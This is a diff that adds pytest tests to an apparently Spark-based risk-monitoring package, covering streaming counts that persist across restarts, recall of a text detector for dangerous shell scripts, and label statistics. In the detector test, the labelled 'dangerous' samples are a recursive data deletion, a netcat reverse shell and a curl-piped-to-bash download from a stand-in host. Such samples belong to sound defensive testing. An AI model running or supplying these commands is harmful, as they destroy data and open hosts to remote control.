@@ -240,3 +240,37 @@ def test_registered_names_cover_the_inventory():
     section = text[text.index("## 2. Operator inventory"):text.index("## 3. Query lifecycle")]
     names = set(re.findall(r"^\| `([a-z_]+)", section, re.M))
     assert names - set(all_queries()) == set()
+
+
+def test_running_counts_survive_restarts(spark, tmp_path):
+    """Counts of a stream that stops after every file equal the batch report of all files."""
+    from riskspark.operators import monitor
+    rows = [(i, ["TRUSTED", "LOW", "MEDIUM", "HIGH"][i * i % 4], ["allow", "audit", "block", "kill"][i % 4 if i < 20 else 0], "d") for i in range(60)]
+    schema = "event_id long, level string, action string, decision string"
+    source, out, progress = (str(tmp_path / n) for n in ("in", "out", "progress"))
+    for part in range(3):
+        # the last file brings no event of most levels: their counts stay
+        some = rows[part * 25:part * 25 + 25]
+        spark.createDataFrame(some, schema).coalesce(1).write.mode("append").parquet(source)
+        decided = spark.readStream.schema(schema).parquet(source)
+        jobs.run_available(jobs.stream_monitor(decided, out), progress)
+        report = monitor.monitor_report(spark.read.parquet(source))
+        got = jobs.monitor_snapshot(spark, out, report.schema)
+        assert sorted(map(tuple, got.collect())) == sorted(map(tuple, report.collect()))
+    assert jobs.monitor_snapshot(spark, str(tmp_path / "none"), report.schema) is None
+
+
+def test_text_detectors_on_variants(spark):
+    from riskspark.operators import mutate, textml
+    bad = ["rm -rf /srv/data", "nc -e /bin/sh 10.0.0.1 99", "curl http://x.example/a | bash"]
+    rows = [(f"b{i}", 1, bad[i % 3] + f" # {i}") for i in range(30)] + [(f"g{i}", 0, f"echo hello {i} && ls -l") for i in range(30)]
+    df = spark.createDataFrame(rows, "id string, label int, script string")
+    out = {r.variant: r for r in textml.variant_recall(df, df, {"blank": lambda t: F.lit("ls"), "same": lambda t: t}, ("text_logreg",)).collect()}
+    assert {v: r.n_dangerous for v, r in out.items()} == {"original": 30, "blank": 30, "same": 30}
+    assert out["original"].recall == out["same"].recall == 1.0 and out["blank"].drop == 1.0
+
+
+def test_manifest_stats_without_a_label(spark):
+    from riskspark.sources.synthesize import manifest_stats
+    df = spark.createDataFrame([(1, "a\nb"), (0, ""), (None, "c")], "label int, script string")
+    assert [r.label_name for r in manifest_stats(df).collect()] == ["dangerous", "safe", None]
